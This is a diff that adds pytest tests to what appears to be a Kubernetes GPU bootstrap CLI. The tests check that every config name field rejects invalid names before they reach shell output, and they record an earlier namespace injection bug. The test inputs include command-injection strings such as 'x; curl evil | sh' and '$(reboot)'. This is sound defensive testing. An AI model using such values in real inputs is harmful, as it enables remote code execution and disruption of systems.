@@ -121,3 +121,28 @@ def test_every_example_config_is_valid(example):
     data = yaml.safe_load(example.read_text())
     if isinstance(data, dict) and "nodes" in data:
         cfg.load(example, environ={})
+
+
+# Every config field that names a Kubernetes object or namespace (it reaches label values, host names, RBAC rules
+# and the `kubectl create namespace` lines `rbac` prints): (section, YAML of the field, its path)
+NAME_FIELDS = [
+    ("gpu_operator", "release", "gpu_operator.release"), ("gpu_operator", "namespace", "gpu_operator.namespace"),
+    ("monitoring", "release", "monitoring.release"), ("monitoring", "namespace", "monitoring.namespace"),
+    ("scheduler", "name", "scheduler.name"), ("scheduler", "namespace", "scheduler.namespace"),
+    ("scheduler", "lease_name", "scheduler.lease_name"), ("validation", "namespace", "validation.namespace"),
+    ("registry", "pull_secret", "registry.pull_secret"),
+]
+
+
+@pytest.mark.parametrize("section, key, path", NAME_FIELDS, ids=[f[2] for f in NAME_FIELDS])
+@pytest.mark.parametrize("value", ["x; curl evil | sh", "$(reboot)", "Upper", "a" * 254, "-leading"])
+def test_every_name_field_takes_only_a_kubernetes_name(tmp_path, section, key, path, value):
+    """A name that is not a DNS-1123 label (or subdomain, for a Secret) exits 2 naming the field and its line, for
+    `rbac` too, whose output goes to a shell: nothing reaches it unquoted (found: validation.namespace was printed
+    into `kubectl create namespace ...` as given)."""
+    config = tmp_path / "gpu-bootstrap.yaml"
+    config.write_text(yaml.safe_dump({"nodes": [{"name": "a"}], section: {key: value}}))
+    result = runner.invoke(app, ["rbac", "--for", "dry-run", "--service-account", "ci/x", "-c", str(config),
+                                 "--log-file", str(tmp_path / "log")])
+    assert result.exit_code == 2, result.output
+    assert path in result.output and f"{config}:" in result.output, result.output
